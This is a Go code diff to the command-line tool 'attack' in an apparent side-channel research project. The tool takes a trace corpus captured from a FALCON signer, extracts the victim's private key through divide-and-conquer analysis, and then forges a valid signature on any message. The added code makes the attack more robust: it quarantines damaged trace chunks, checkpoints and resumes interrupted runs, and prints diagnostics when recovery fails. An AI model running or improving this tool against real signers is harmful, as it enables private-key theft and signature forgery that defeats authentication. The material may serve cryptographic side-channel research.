@@ -8,12 +8,29 @@
 // captures are accepted; -traces may name a file, a shard glob, or a
 // directory of shards.
 //
+// Robustness:
+//
+//   - -lenient opens a damaged corpus in degraded mode: chunks that fail
+//     their checksum are quarantined (identically on every pass) and the
+//     attack runs on what survives, with the loss reported up front.
+//   - -resume checkpoints the attack state to a sidecar (<traces>.ckpt)
+//     after each completed phase; a killed run restarted with -resume
+//     continues from the last completed phase instead of re-sweeping.
+//   - a failed recovery prints the partial report — which of the 2·(n/2)
+//     values failed and why — rather than a bare error.
+//
+// Exit codes: 0 success, 1 generic failure, 2 malformed corpus,
+// 3 recovery failed (traces readable but the key could not be
+// established).
+//
 // Usage:
 //
 //	attack -traces traces.fdt2 -pub victim.pub -msg "arbitrary text"
+//	attack -traces traces.fdt2 -pub victim.pub -resume -lenient
 package main
 
 import (
+	"errors"
 	"flag"
 	"fmt"
 	"math/bits"
@@ -26,23 +43,56 @@ import (
 	"falcondown/internal/tracestore"
 )
 
+// Exit codes for scripted pipelines.
+const (
+	exitGeneric        = 1
+	exitMalformedInput = 2
+	exitRecoveryFailed = 3
+)
+
 func main() {
 	tracePath := flag.String("traces", "traces.fdt2", "trace corpus from tracegen (file, shard glob, or directory)")
 	pubPath := flag.String("pub", "victim.pub", "victim public key")
 	msg := flag.String("msg", "forged by falcondown", "message to forge a signature for")
 	sigOut := flag.String("sig", "forged.sig", "forged signature output")
+	lenient := flag.Bool("lenient", false, "tolerate corpus damage: quarantine bad chunks and attack what survives")
+	resume := flag.Bool("resume", false, "checkpoint attack phases to a sidecar and resume a killed run from the last completed phase")
 	flag.Parse()
 
-	if err := run(*tracePath, *pubPath, *msg, *sigOut); err != nil {
+	if err := run(*tracePath, *pubPath, *msg, *sigOut, *lenient, *resume); err != nil {
 		fmt.Fprintln(os.Stderr, "attack:", err)
-		os.Exit(1)
+		switch {
+		case errors.Is(err, tracestore.ErrBadFormat) || errors.Is(err, tracestore.ErrChecksum):
+			os.Exit(exitMalformedInput)
+		case errors.Is(err, core.ErrImplausibleKey) || errors.Is(err, core.ErrCheckpointMismatch):
+			os.Exit(exitRecoveryFailed)
+		}
+		os.Exit(exitGeneric)
 	}
 }
 
-func run(tracePath, pubPath, msg, sigOut string) error {
-	corpus, err := tracestore.Open(tracePath)
-	if err != nil {
-		return err
+func run(tracePath, pubPath, msg, sigOut string, lenient, resume bool) error {
+	var corpus *tracestore.Corpus
+	var err error
+	if lenient {
+		var health *tracestore.CorpusHealth
+		corpus, health, err = tracestore.OpenLenient(tracePath)
+		if err != nil {
+			return err
+		}
+		fmt.Println(health)
+		for _, q := range health.Quarantined {
+			fmt.Printf("  quarantined: shard %s chunk %d at offset %d (%d observations): %s\n",
+				q.Shard, q.Chunk, q.Offset, q.Observations, q.Reason)
+		}
+	} else {
+		corpus, err = tracestore.Open(tracePath)
+		if err != nil {
+			if errors.Is(err, tracestore.ErrBadFormat) || errors.Is(err, tracestore.ErrChecksum) {
+				return fmt.Errorf("%w (retry with -lenient to quarantine the damage and attack what survives)", err)
+			}
+			return err
+		}
 	}
 	n := corpus.N()
 	fmt.Printf("opened corpus of %d traces of a FALCON-%d victim (%d shard(s))\n",
@@ -63,13 +113,32 @@ func run(tracePath, pubPath, msg, sigOut string) error {
 	}
 	pub := &falcon.PublicKey{Params: params, H: h}
 
+	var store core.CheckpointStore
+	var sidecar *core.FileCheckpoint
+	if resume {
+		sidecar = &core.FileCheckpoint{Path: tracePath + ".ckpt"}
+		store = sidecar
+		if ck, err := sidecar.Load(); err == nil && ck != nil {
+			fmt.Printf("resuming from checkpoint: phase %q already complete\n", ck.Stage)
+		}
+	}
+
 	fmt.Println("running streamed divide-and-conquer extend-and-prune extraction...")
-	priv, report, err := core.RecoverKeyFrom(corpus, pub, core.Config{})
+	priv, report, err := core.RecoverKeyResumable(corpus, pub, core.Config{}, store)
 	if err != nil {
+		printPartialReport(report)
 		return fmt.Errorf("key recovery failed (detected, not silent): %w", err)
 	}
 	fmt.Printf("key recovered: %d/%d values extracted, weakest prune correlation %.3f, all significant at 99.99%%: %v\n",
 		len(report.Values), len(report.Values), report.MinPrune, report.Significant)
+	if len(report.Corrected) > 0 {
+		fmt.Printf("exponent error-correction repaired value(s) %v\n", report.Corrected)
+	}
+	if sidecar != nil {
+		if err := sidecar.Remove(); err != nil {
+			fmt.Fprintf(os.Stderr, "attack: warning: could not remove checkpoint sidecar: %v\n", err)
+		}
+	}
 
 	sig, err := priv.Sign([]byte(msg), rng.NewEntropy())
 	if err != nil {
@@ -87,4 +156,26 @@ func run(tracePath, pubPath, msg, sigOut string) error {
 	}
 	fmt.Printf("forged a valid signature on %q with the victim's public key -> %s\n", msg, sigOut)
 	return nil
+}
+
+// printPartialReport shows how far a failed recovery got and which values
+// are to blame, so a failed run is actionable (acquire more traces, raise
+// the beam, salvage the corpus) rather than opaque.
+func printPartialReport(report *core.RecoveryReport) {
+	if report == nil {
+		return
+	}
+	fmt.Printf("partial recovery report: %d values extracted, weakest prune correlation %.3f, all significant: %v\n",
+		len(report.Values), report.MinPrune, report.Significant)
+	if report.CorrectionCapped {
+		fmt.Println("  exponent error-correction search was truncated at its candidate cap; more tie families existed than were tried")
+	}
+	if len(report.Failed) == 0 {
+		fmt.Println("  no value failed its statistics; the corpus itself is the prime suspect")
+		return
+	}
+	fmt.Printf("  %d value(s) could not be established:\n", len(report.Failed))
+	for _, f := range report.Failed {
+		fmt.Printf("    %s\n", f)
+	}
 }
